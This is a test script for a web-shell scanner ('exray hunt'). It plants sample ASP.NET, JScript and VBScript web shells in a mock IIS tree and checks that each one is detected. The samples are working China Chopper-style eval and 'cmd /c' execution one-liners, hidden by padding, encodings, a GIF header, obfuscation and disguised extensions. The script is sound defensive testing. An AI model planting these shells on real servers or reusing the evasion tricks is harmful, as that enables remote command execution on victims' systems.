#!/bin/sh
# No web shell hides from exray hunt by depth, size, encoding, obfuscation or extension,
# and what cannot be examined is a finding of its own (hunt.not-examined, exit 1), never
# a silent "clean". The name-and-date check is low under an ordinary site, medium in an
# Exchange or aspnet_client folder.
. "$(dirname "$0")/lib.sh"
T="$WORK/t/C"
W="$T/inetpub/wwwroot"
mkdir -p "$W/aspnet_client/system_web" "$W/app" "$T/Windows" "$T/ProgramData/x"

python3 - "$W" "$T" <<'PY'
import os, sys
w, t = sys.argv[1:3]
chop = '<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>'
def put(rel, data, base=w):
    p = os.path.join(base, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    open(p, "wb").write(data if isinstance(data, bytes) else data.encode())
# depth: 40 folders below aspnet_client
put("aspnet_client/" + "/".join("d%d" % i for i in range(40)) + "/deep.aspx", chop)
# size: 20 MiB of padding before, after, and a shell straddling the 8 MiB window edge
pad = b"<!-- " + b"A" * (20 << 20) + b" -->\n"
put("aspnet_client/pad_start.aspx", chop.encode() + b"\n" + pad)
put("aspnet_client/pad_end.aspx", pad + chop.encode())
edge = bytearray(b" " * ((8 << 20) + 4096))
off = (8 << 20) - 20
edge[off:off + len(chop)] = chop.encode()
put("aspnet_client/edge.aspx", bytes(edge))
# encodings
put("aspnet_client/u16le_bom.aspx", b"\xff\xfe" + chop.encode("utf-16-le"))
put("aspnet_client/u16le.aspx", chop.encode("utf-16-le"))
put("aspnet_client/u16be_bom.aspx", b"\xfe\xff" + chop.encode("utf-16-be"))
put("aspnet_client/u16be.aspx", chop.encode("utf-16-be"))
put("aspnet_client/u8bom.aspx", b"\xef\xbb\xbf" + chop.encode())
put("aspnet_client/gif.aspx", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff" + chop.encode())
# obfuscation
put("aspnet_client/comments.aspx", '<%@ Page Language="Jscript"%><%var/*-/*-*/P/*-/*-*/=/*-/*-*/"e"+"v"+/*-/*-*/"a"+"l"+"(R"+"e"+"q"+"u"+"e"+"s"+"t"+"[0-2-5]"+",\\""+"u"+"n"+"s"+"a"+"f"+"e"+"\\")";eval(/*-/*-*/P/*-/*-*/,/*-/*-*/"u"+"n"+"s"+"a"+"f"+"e"/*-/*-*/);%>')
put("aspnet_client/uesc.aspx", '<%@ Page Language="C#"%><%System.Reflection.\\u0041ssembly.\\u004coad(Convert.FromBase64String(Request.Form["x"])).CreateInstance("U").Equals(this);%>')
put("aspnet_client/entity.config", '<?xml version="1.0"?><configuration><system.webServer><handlers accessPolicy="Read, Script, Write">'
    '<add name="cfg" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" />'
    '</handlers></system.webServer></configuration><!-- <% Response.Write(CreateObject("WScript.Shell").&#101;xec("cmd /c " & Request("c")).StdOut.ReadAll()) %> -->')
put("aspnet_client/vb.aspx", '<%\r\nset ms = server.CreateObject("MSScriptControl.ScriptControl.1")\r\nms.Language="VBScript"\r\nms.ExecuteStatement("ev"&"al(request(""p""))")\r\n%>')
# extensions IIS serves through ASP.NET, and code behind an innocent name
for ext in ("ashx", "asmx", "soap", "svc", "rem", "master", "cshtml", "vbhtml", "ascx", "asax"):
    put("app/h." + ext, chop)
put("app/logo.jpg", chop)
put("app/noext", chop)
# ProgramData (ProxyShell pointed virtual directories there)
put("ProgramData/x/y/z/pd.aspx", chop, base=t)
PY
set +e; "$EXRAY" hunt -q -o "$WORK/h.jsonl" "$WORK/t" 2>"$WORK/h.err"; rc=$?; set -e
[ $rc -eq 1 ] || fail "shells: exit $rc"
python3 - "$WORK/h.jsonl" "$W" "$T" <<'PY' || fail "a planted shell was missed"
import json, os, sys
out, w, t = sys.argv[1:4]
found = {f["path"] for f in map(json.loads, open(out)) if f["check"] == "webshell.yara"}
want = set()
for base in (w, os.path.join(t, "ProgramData")):
    for r, _, fs in os.walk(base):
        for f in fs:
            want.add(os.path.relpath(os.path.join(r, f), os.path.dirname(t)))
missed = sorted(want - found)
assert not missed, "missed: %s" % missed
print("  %d planted shells found (depth 40, 20 MiB padding both ends, window edge, UTF-16LE/BE with and without BOM, "
      "UTF-8 BOM, GIF header, comment/concatenation/\\u/entity obfuscation, 12 extensions, ProgramData)" % len(want))
PY
ok "no planted shell hides by depth, size, encoding, obfuscation or extension"

# nothing skipped silently: an unreadable file and an unreadable folder (as an
# unprivileged user, since root reads everything), a FIFO, a path over the limit
C="$WORK/c/C"
mkdir -p "$C/inetpub/wwwroot/site/locked" "$C/Windows"
echo '<html>hello</html>' > "$C/inetpub/wwwroot/site/index.html"
set +e; "$EXRAY" hunt -q -o "$WORK/c.jsonl" "$WORK/c" >/dev/null 2>&1; rc=$?; set -e
[ $rc -eq 0 ] || fail "clean tree: exit $rc ($(cat "$WORK/c.jsonl"))"
mkfifo "$C/inetpub/wwwroot/site/pipe.aspx"
set +e; "$EXRAY" hunt -o "$WORK/c.jsonl" "$WORK/c" >"$WORK/c.out" 2>&1; rc=$?; set -e
[ $rc -eq 1 ] || fail "FIFO: exit $rc"
grep -q '"check":"hunt.not-examined".*"path":"C/inetpub/wwwroot/site/pipe.aspx"' "$WORK/c.jsonl" || fail "FIFO not reported: $(cat "$WORK/c.jsonl")"
grep -q "VERDICT INCOMPLETE" "$WORK/c.out" || fail "summary does not say the verdict is incomplete"
rm "$C/inetpub/wwwroot/site/pipe.aspx"
ok "a FIFO is not read (no hang) and is reported: hunt.not-examined, exit 1, 'VERDICT INCOMPLETE'"

# a path over the walk's 4095-byte limit is reported, not skipped in silence
python3 - "$C/inetpub/wwwroot/site" <<'PY'
import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
for i in range(22):
    os.mkdir("d" * 200, dir_fd=fd)
    nfd = os.open("d" * 200, os.O_RDONLY, dir_fd=fd); os.close(fd); fd = nfd
w = os.open("x.aspx", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd); os.write(w, b"x"); os.close(w); os.close(fd)
PY
set +e; "$EXRAY" hunt -q -o "$WORK/long.jsonl" "$WORK/c" >/dev/null 2>&1; rc=$?; set -e
[ $rc -eq 1 ] || fail "long path: exit $rc"
grep -q '"check":"hunt.not-examined".*longer than 4095 bytes' "$WORK/long.jsonl" || fail "long path not reported: $(head -c 400 "$WORK/long.jsonl")"
rm -rf "$C/inetpub/wwwroot/site/dddd"*
ok "a path over 4095 bytes is reported as not examined (exit 1)"

if command -v setpriv >/dev/null 2>&1 && [ "$(id -u)" -eq 0 ]; then
    # a private copy in /tmp that the unprivileged user can reach (the clone may sit under /root)
    P=$(mktemp -d /tmp/exray-perm.XXXXXX); PIDS="$PIDS"; trap 'rm -rf "$P"; cleanup' EXIT INT TERM
    chmod 755 "$P"; cp "$EXRAY" "$P/exray"; cp -r "$WORK/c" "$P/c"; mkdir "$P/out"; chmod 777 "$P/out"
    PC="$P/c/C/inetpub/wwwroot/site"
    echo '<%@ Page Language="C#"%>' > "$PC/secret.aspx"
    echo x > "$PC/locked/a.aspx"
    chmod -R a+rX "$P/c"
    chmod 000 "$PC/secret.aspx" "$PC/locked"
    set +e; setpriv --reuid=65534 --regid=65534 --clear-groups "$P/exray" hunt -q -o "$P/out/p.jsonl" "$P/c" 2>"$WORK/p.err"; rc=$?; set -e
    chmod 755 "$PC/locked"; chmod 644 "$PC/secret.aspx"; cp "$P/out/p.jsonl" "$WORK/p.jsonl"; rm -rf "$P"
    [ $rc -eq 1 ] || fail "unreadable: exit $rc ($(cat "$WORK/p.err"))"
    python3 - "$WORK/p.jsonl" <<'PY' || fail "unreadable file or folder not reported: $(cat "$WORK/p.jsonl")"
import json, sys
ne = {f["path"]: f for f in map(json.loads, open(sys.argv[1])) if f["check"] == "hunt.not-examined"}
for p in ("C/inetpub/wwwroot/site/secret.aspx", "C/inetpub/wwwroot/site/locked"):
    assert p in ne and ne[p]["severity"] == "medium" and "denied" in ne[p]["evidence"], (p, ne)
PY
    ok "an unreadable file and an unreadable folder are each reported (permission denied), exit 1"
else
    echo "  skip: unreadable-file check needs root and setpriv"
fi

# the name-and-date check: a published name with a 2021 date is low under an ordinary
# site, medium in aspnet_client; content evidence makes it a web shell either way
N="$WORK/n/C"
mkdir -p "$N/inetpub/wwwroot/shop" "$N/inetpub/wwwroot/aspnet_client" "$N/Windows"
echo '<%@ Page Language="C#" %><html><body>Shop</body></html>' > "$N/inetpub/wwwroot/shop/Default.aspx"
echo '<%@ Page Language="C#" %><html><body>x</body></html>' > "$N/inetpub/wwwroot/aspnet_client/errorcheck.aspx"
touch -d 2021-03-04T10:00:00Z "$N/inetpub/wwwroot/shop/Default.aspx" "$N/inetpub/wwwroot/aspnet_client/errorcheck.aspx"
set +e; "$EXRAY" hunt -q -o "$WORK/n.jsonl" "$WORK/n" >/dev/null 2>&1; rc=$?; set -e
[ $rc -eq 1 ] || fail "names: exit $rc"
python3 - "$WORK/n.jsonl" <<'PY' || fail "name-and-date severities: $(cat "$WORK/n.jsonl")"
import json, sys
sev = {f["path"]: f["severity"] for f in map(json.loads, open(sys.argv[1])) if f["check"] == "webshell.name"}
assert sev.get("C/inetpub/wwwroot/shop/Default.aspx") == "low", sev
assert sev.get("C/inetpub/wwwroot/aspnet_client/errorcheck.aspx") == "medium", sev
PY
rm "$N/inetpub/wwwroot/aspnet_client/errorcheck.aspx"
set +e; "$EXRAY" hunt -q -o "$WORK/n2.jsonl" "$WORK/n" >/dev/null 2>&1; rc=$?; set -e
[ $rc -eq 0 ] || fail "a name-only page under an ordinary site must not make the verdict (exit $rc)"
ok "name and date only: low under an ordinary site (exit 0), medium in aspnet_client"
